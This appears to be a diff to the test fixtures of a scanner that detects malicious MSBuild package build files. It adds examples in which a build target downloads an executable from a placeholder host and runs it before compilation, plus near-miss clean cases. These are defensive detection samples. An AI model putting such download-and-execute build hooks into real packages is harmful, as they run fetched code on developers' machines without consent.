@@ -31,6 +31,18 @@ using (var client = new System.Net.WebClient())
 }
 System.Diagnostics.Process.Start(path);`;
 
+function downloadAndExec(between: string): string {
+  return `<Project>
+  <PropertyGroup><ToolFolder>$(BaseIntermediateOutputPath)tool/</ToolFolder></PropertyGroup>
+  <Target Name="Generate" BeforeTargets="CoreCompile" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <DownloadFile SourceUrl="https://files.fixture.invalid/generate.exe" DestinationFolder="$(ToolFolder)" />
+    ${between}
+    <Exec Command="&quot;$(ToolFolder)generate.exe&quot; @(Schema)" />
+  </Target>
+</Project>
+`;
+}
+
 export const examples: Examples = {
   flagged: [
     {
@@ -86,8 +98,38 @@ System.Diagnostics.Process.Start(path);`),
 `,
       },
     },
+    {
+      name: 'download-task',
+      about: 'MSBuild’s own task fetches a program that a command line then starts: held.',
+      level: 'suspicious',
+      files: { 'build/Fixture.Package.targets': downloadAndExec('') },
+    },
   ],
   clean: [
+    {
+      name: 'checks-the-digest',
+      about: 'The same, with a digest of the file in the build file.',
+      nearMiss: true,
+      files: {
+        'build/Fixture.Package.targets': downloadAndExec(
+          `<VerifyFileHash File="$(ToolFolder)generate.exe" Hash="${'0'.repeat(64)}" />`,
+        ),
+      },
+    },
+    {
+      name: 'downloads-and-formats',
+      about: 'Fetches a schema, and runs a program of the package over the project.',
+      nearMiss: true,
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="Generate" BeforeTargets="CoreCompile">
+    <DownloadFile SourceUrl="https://schemas.fixture.invalid/a.xsd" DestinationFolder="$(IntermediateOutputPath)" />
+    <Exec Command="&quot;$(MSBuildThisFileDirectory)../tools/generate&quot; $(IntermediateOutputPath)" />
+  </Target>
+</Project>
+`,
+      },
+    },
     {
       name: 'starts-packaged-tool',
       about: 'Starts a compiler that lies in the package, and downloads nothing.',
